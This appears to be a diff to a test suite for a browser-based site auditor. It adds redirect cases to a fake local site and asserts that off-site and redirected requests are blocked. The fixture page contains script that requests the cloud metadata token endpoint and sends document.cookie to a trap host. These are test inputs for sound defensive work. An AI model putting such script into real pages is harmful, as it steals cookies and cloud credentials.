@@ -69,6 +69,7 @@ class EngineSite:
     def __init__(self) -> None:
         self.requests: list[str] = []
         self.trap_requests: list[str] = []
+        site = self
 
         def handler(log, routes):
             class Handler(BaseHTTPRequestHandler):
@@ -79,6 +80,9 @@ class EngineSite:
                     log.append(self.path)
                     status, ctype, body = routes(self.path)
                     self.send_response(status)
+                    if status in (301, 302):
+                        self.send_header("Location", {"/old-site.css": "/site.css"}.get(
+                            self.path, f"{site.trap_url}/bounced.css"))
                     self.send_header("Content-Type", ctype)
                     self.send_header("Content-Length", str(len(body)))
                     self.end_headers()
@@ -98,6 +102,10 @@ class EngineSite:
     def route(self, path: str):
         if path == "/robots.txt":
             return 200, "text/plain", b"User-agent: *\nDisallow:\n"
+        if path == "/old-site.css":  # a same-site redirect the browser must still follow
+            return 301, "text/plain", b""
+        if path == "/bounce.css":  # a same-site address that redirects to the trap
+            return 302, "text/plain", b""
         if path == "/site.css":
             return 200, "text/css", b".faint { color: #b0b0b0; background: #ffffff; }"
         if path == "/centre.png":
@@ -110,11 +118,13 @@ class EngineSite:
             "<script>fetch('http://169.254.169.254/latest/api/token').catch(function () {});"
             f"fetch('{self.trap_url}/steal?c=' + document.cookie).catch(function () {{}});"
             f"var s = document.createElement('link'); s.rel = 'stylesheet';"
-            f"s.href = '{self.trap_url}/steal.css'; document.head.appendChild(s);</script>")
+            f"s.href = '{self.trap_url}/steal.css'; document.head.appendChild(s);"
+            "var b = document.createElement('link'); b.rel = 'stylesheet';"
+            "b.href = '/bounce.css'; document.head.appendChild(b);</script>")
         if path in pages:
             title = path.strip("/") or "home"
             body = (f"<!doctype html><html lang='en'><head><title>{title} - Test Local Offer"
-                    f"</title><link rel='stylesheet' href='/site.css'></head><body><main>"
+                    f"</title><link rel='stylesheet' href='/old-site.css'></head><body><main>"
                     f"{pages[path]}</main></body></html>")
             return 200, "text/html; charset=utf-8", body.encode()
         return 404, "text/html", b"<html><title>Not found</title><h1>Not found</h1></html>"
@@ -219,7 +229,8 @@ def test_hostile_requests_are_refused_and_never_sent(audited):
     refused = " ".join(blocked[0]["extra"]["blocked"])
     assert "169.254.169.254/latest/meta-data/" in refused
     assert "169.254.169.254/latest/api/token" in refused
-    assert "127.0.0.2" in refused
+    assert f"off-site host: {audited['site'].trap_url}/steal.css" in refused
+    assert f"redirect to off-site host: {audited['site'].trap_url}/bounced.css" in refused
     assert audited["site"].trap_requests == []  # the route filter aborted it before sending
 
 
@@ -228,7 +239,7 @@ def test_pages_come_from_the_store_and_styles_from_the_site(audited):
     requests = audited["site"].requests
     for path in PAGES:  # fetched once, by the crawl; the browser was served the stored body
         assert requests.count(path) == 1, (path, requests)
-    assert "/site.css" in requests
+    assert "/site.css" in requests  # reached through the same-site redirect from /old-site.css
 
 
 @needs_browser
